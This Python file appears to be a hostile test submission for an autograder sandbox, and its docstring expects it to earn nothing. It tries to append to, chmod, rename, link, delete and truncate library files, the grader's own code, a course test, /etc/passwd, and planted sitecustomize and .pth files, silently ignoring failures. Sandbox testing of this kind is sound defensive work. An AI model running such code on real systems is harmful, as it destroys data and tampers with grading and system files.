"""Rewrites installed packages, the standard library, the engine and the course, and deletes what it cannot rewrite.

machine
earns: nothing
"""

import os
import sys
import sysconfig

import numpy as np

engine = sys.modules["autograder"].__path__[0]
targets = [np.__file__, os.__file__, os.path.join(engine, "numeric.py"), os.path.join(engine, "sandbox", "host.py")]
targets += [os.path.join(sysconfig.get_path("purelib"), name) for name in ("pwned.pth", "sitecustomize.py", "pwned.py")]
targets += ["/srv/course/tests/courses/tiny/assignments/adder/test_adder.py", "/etc/passwd", "/usr/bin/pwned"]
for target in targets:
    for attempt in (
        lambda: open(target, "a").write("\n# pwned\n"),
        lambda: os.chmod(target, 0o666),
        lambda: os.rename(target, target + ".pwned"),
        lambda: os.symlink("/tmp/pwned", target + ".pwned"),
        lambda: os.link(target, "pwned"),
        lambda: os.remove(target),
        lambda: os.utime(target, (0, 0)),
        lambda: os.truncate(target, 0),
    ):
        try:
            attempt()
        except OSError:
            pass
